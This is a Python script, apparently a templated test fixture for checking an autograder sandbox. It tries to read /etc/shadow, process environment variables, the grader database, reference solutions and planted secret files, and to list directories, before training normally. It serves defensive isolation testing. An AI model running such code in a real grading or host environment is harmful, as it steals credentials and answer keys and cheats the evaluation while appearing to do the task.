# Attack: read what the host holds: /etc/passwd and /etc/shadow, /proc/1/environ, the worker's and the fork
# server's /proc/<pid>/environ, the project tree, the database file, the reference solutions and the
# secret files the worker planted; list directories looking for other submissions. Then train normally.
import json
import os

paths = ["/etc/passwd", "/etc/shadow", "/etc/hostname", "/proc/1/environ", "/proc/1/cmdline",
         "/proc/__WORKER_PID__/environ", "/proc/__SERVER_PID__/environ", "/proc/__DECOY_PID__/environ", "/proc/__WORKER_PID__/cmdline",
         "__REPO__/instance/grader.db", "__REPO__/grader/config.py", "__REPO__/worker/harness.py",
         "__REPO__/assignments/backprop-linear/solution.py", "__REPO__/assignments/backprop-quadratic/solution.py",
         "__REPO__/assignments/backprop-linear/assignment.yaml", "/opt/harness/harness.py",
         "/root/.bash_history", "/proc/self/root/etc/passwd", "/proc/1/root/etc/passwd",
         *json.loads('__SECRET_PATHS__')]
for path in paths:
    try:
        with open(path, "rb") as f:
            data = f.read(1 << 16)
        print("READ", path, len(data), data[:4000], flush=True)
    except OSError as exc:
        print("BLOCKED read", path, exc.errno, flush=True)
for directory in ("/", "/etc", "/work", "__REPO__", "__REPO__/instance", "__REPO__/assignments", "/root",
                  "/home", "/tmp", "/var", "/srv", "/proc", "__REPO__/.venv", os.path.dirname(json.loads('__SECRET_PATHS__')[0])):
    try:
        print("LIST", directory, sorted(os.listdir(directory))[:50], flush=True)
    except OSError as exc:
        print("BLOCKED list", directory, exc.errno, flush=True)
visible = [p for p in os.listdir("/proc") if p.isdigit()]
print("PIDS", visible, flush=True)
#@train
